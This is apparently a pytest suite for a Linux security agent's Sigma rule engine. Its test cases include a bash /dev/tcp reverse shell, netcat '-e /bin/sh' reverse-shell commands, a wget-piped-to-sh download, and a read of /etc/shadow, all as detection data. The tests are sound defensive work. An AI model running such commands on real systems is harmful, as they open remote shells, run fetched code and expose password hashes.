# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import uuid
from pathlib import Path

import pytest

from agent.events import AuditEvent, Event, NetConnect, ProcessExec
from agent.logs.sigma import SigmaEngine


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    eng = SigmaEngine.load()
    assert eng.unsupported == {}
    assert len(eng.rules) >= 9
    return eng


def proc(filename: str, *argv: str, parent: str = "sh") -> ProcessExec:
    return ProcessExec(
        ts=0, ppid=1, uid=33, comm=filename.rsplit("/", 1)[-1], filename=filename, argv=argv, parent_comm=parent
    )


def audit(types: tuple[str, ...], **kw: object) -> AuditEvent:
    return AuditEvent(ts=0, serial=1, record_types=types, **kw)  # type: ignore[arg-type]


CASES: list[tuple[Event, str | None]] = [
    (proc("/bin/sh", "sh", "-c", "id", parent="httpd"), "Shell Spawned By A Web Server Process"),
    (proc("/bin/sh", "sh", "-c", "id", parent="cron"), None),
    (proc("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "Reverse Shell Command Line"),
    (proc("/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"), "Reverse Shell Command Line"),
    (proc("/bin/CAT", "cat", "/etc/shadow"), "Shadow File Read By A Command Line Tool"),  # case-insensitive
    (proc("/bin/cat", "cat", "/etc/passwd"), None),
    (proc("/bin/sh", "sh", "-c", "wget -qO- http://x/i.sh | sh"), "Download Piped Into A Shell"),
    (proc("/bin/chmod", "chmod", "+x", "/tmp/x"), "Executable Permission Set In A Temporary Directory"),
    (proc("/bin/chmod", "chmod", "+x", "/usr/local/bin/x"), None),
    (
        audit(("SYSCALL", "PATH"), syscall="openat", exe="/bin/cat", paths=("/etc/shadow",)),
        "Audited Access To Shadow Files",
    ),
    (audit(("SYSCALL", "PATH"), syscall="openat", exe="/usr/bin/passwd", paths=("/etc/shadow",)), None),
    (audit(("SYSCALL",), syscall="finit_module", exe="/sbin/insmod"), "Kernel Module Loaded"),
    (audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-l", "-p", "9")), None),
    (
        audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-e", "/bin/sh", "1.2.3.4")),
        "Netcat Style Tool Executed With Execute Option",
    ),
    (
        NetConnect(
            ts=0,
            op="connect",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="10.0.0.2",
            sport=1,
            daddr="10.0.0.1",
            dport=4444,
        ),
        "Shell Process Opening An Outbound Connection",
    ),
    (
        NetConnect(
            ts=0,
            op="connect",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="127.0.0.1",
            sport=1,
            daddr="127.0.0.1",
            dport=4444,
        ),
        None,
    ),
    (
        NetConnect(
            ts=0,
            op="accept",
            comm="sh",
            family=2,
            protocol="tcp",
            saddr="10.0.0.2",
            sport=1,
            daddr="10.0.0.1",
            dport=4444,
        ),
        None,
    ),
]


@pytest.mark.parametrize(("event", "title"), CASES)
def test_curated_rules(engine: SigmaEngine, event: Event, title: str | None) -> None:
    got = [m.rule.title for m in engine.evaluate(event)]
    assert got == ([title] if title else [])


HEAD = "title: {t}\nid: {i}\nstatus: test\nlevel: low\nlogsource:\n{ls}\ndetection:\n{det}\n"
LINUX_PC = "    product: linux\n    category: process_creation"


def write(tmp: Path, name: str, t: str, ls: str, det: str) -> None:
    (tmp / name).write_text(HEAD.format(t=t, i=str(uuid.uuid4()), ls=ls, det=det))


def test_unsupported_rules_are_reported_with_reasons(tmp_path: Path) -> None:
    write(
        tmp_path,
        "a.yml",
        "windows",
        "    product: windows\n    category: process_creation",
        "    sel:\n        Image: x\n    condition: sel",
    )
    write(tmp_path, "b.yml", "unknown field", LINUX_PC, "    sel:\n        OriginalFileName: x\n    condition: sel")
    write(tmp_path, "c.yml", "fieldref", LINUX_PC, "    sel:\n        Image|fieldref: CommandLine\n    condition: sel")
    write(
        tmp_path,
        "d.yml",
        "ok",
        LINUX_PC,
        "    sel:\n        Image|endswith: '/id'\n        CommandLine|re: '^id$'\n    condition: sel",
    )
    (tmp_path / "e.yml").write_text("title: broken\nlogsource: [\n")
    write(tmp_path, "f.yml", "bad modifier", LINUX_PC, "    sel:\n        Image|nosuchmod: x\n    condition: sel")
    eng = SigmaEngine.load([tmp_path])
    assert [r.title for r in eng.rules] == ["ok"]
    reasons = " ".join(eng.unsupported.values())
    assert len(eng.unsupported) == 5, eng.unsupported
    assert "windows" in reasons and "OriginalFileName" in reasons
    assert eng.evaluate(proc("/usr/bin/id", "id"))[0].rule.title == "ok"
    report = eng.report()
    assert len(report["loaded"]) == 1 and len(report["unsupported"]) == 5


def test_shipped_rules_pass_pysigma_validators() -> None:
    from sigma.collection import SigmaCollection
    from sigma.plugins import InstalledSigmaPlugins
    from sigma.validation import SigmaValidator

    from agent.logs.sigma import DEFAULT_SIGMA_DIR

    validators = InstalledSigmaPlugins.autodiscover().validators
    # These three download the ATT&CK / D3FEND / CAR catalogues: no network in tests.
    offline = {k: v for k, v in validators.items() if k not in ("attacktag", "d3_fendtag", "cartag")}
    assert len(offline) > 20
    issues = SigmaValidator(offline.values()).validate_rules(SigmaCollection.load_ruleset([DEFAULT_SIGMA_DIR]))
    assert [(type(i).__name__, [r.title for r in i.rules]) for i in issues] == []


def _summary(eng: SigmaEngine) -> tuple[list[tuple[str, str, str, str]], dict[str, str]]:
    return [(r.title, r.logsource, r.severity.name, r.mitre) for r in eng.rules], eng.unsupported


def test_rules_read_in_a_child_process_match_as_read_in_process(tmp_path: Path) -> None:
    """The daemon reads the rule files in a child (pySigma stays out of its memory): the same
    rules, the same reasons for the rest, the same matches for every value type."""
    det = {
        "cased": "    sel:\n        CommandLine|cased|contains: 'RunMe'\n    condition: sel",
        "regex": "    sel:\n        CommandLine|re: '--port[= ]4[0-9]{3}'\n    condition: sel",
        "number": "    sel:\n        ProcessId: 4242\n    condition: sel",
        "compare": "    sel:\n        ProcessId|gt: 5000\n    condition: sel",
        "empty": "    sel:\n        Image|endswith: '/id'\n        ParentImage: null\n    condition: sel",
        "not": "    sel:\n        Image|endswith: '/ls'\n    f:\n        User: '0'\n    condition: sel and not f",
        "keyword": "    keywords:\n        - '*secret*'\n    condition: keywords",
    }
    for name, d in det.items():
        write(tmp_path, f"{name}.yml", name, LINUX_PC, d)
    write(
        tmp_path,
        "cidr.yml",
        "cidr",
        "    product: linux\n    category: network_connection",
        "    sel:\n        DestinationIp|cidr: 10.0.0.0/8\n        Initiated: 'true'\n    condition: sel",
    )
    write(tmp_path, "bad.yml", "unknown field", LINUX_PC, "    sel:\n        OriginalFileName: x\n    condition: sel")
    here, child = SigmaEngine.load([tmp_path]), SigmaEngine.load_isolated([tmp_path])
    assert _summary(child) == _summary(here)
    assert len(child.rules) == 8 and [k.split(":")[0] for k in child.unsupported] == ["bad.yml"]
    events: list[tuple[Event, set[str]]] = [
        (proc("/bin/x", "x", "RunMe"), {"cased"}),
        (proc("/bin/x", "x", "runme"), set()),
        (proc("/bin/nc", "nc", "--port=4444"), {"regex"}),
        (ProcessExec(ts=0, pid=4242, ppid=1, uid=1, comm="a", filename="/a", argv=("a",)), {"number"}),
        (ProcessExec(ts=0, pid=6000, ppid=1, uid=1, comm="a", filename="/a", argv=("a",)), {"compare"}),
        (ProcessExec(ts=0, pid=99, ppid=1, uid=1, comm="id", filename="/usr/bin/id", argv=("id",)), {"empty"}),
        (proc("/bin/ls", "ls"), {"not"}),
        (ProcessExec(ts=0, pid=99, ppid=1, uid=0, comm="ls", filename="/bin/ls", argv=("ls",)), set()),
        (proc("/bin/cat", "cat", "/run/secret/token"), {"keyword"}),
    ]
    net = dict(ts=0, comm="sh", family=2, protocol="tcp", saddr="10.1.1.1", sport=1, dport=80)
    events.append((NetConnect(op="connect", daddr="10.2.3.4", **net), {"cidr"}))  # type: ignore[arg-type]
    events.append((NetConnect(op="connect", daddr="192.168.1.1", **net), set()))  # type: ignore[arg-type]
    for event, want in events:
        for eng in (here, child):
            assert {m.rule.title for m in eng.evaluate(event)} == want, (event, eng is child)


def test_a_failed_child_falls_back_to_reading_in_process() -> None:
    from structlog.testing import capture_logs

    with capture_logs() as logs:
        eng = SigmaEngine.load_isolated(timeout=0.001)  # the child cannot start in time
    assert _summary(eng) == _summary(SigmaEngine.load())
    assert [e["fallback"] for e in logs if e["event"] == "sigma_child_failed"] == ["in-process"]
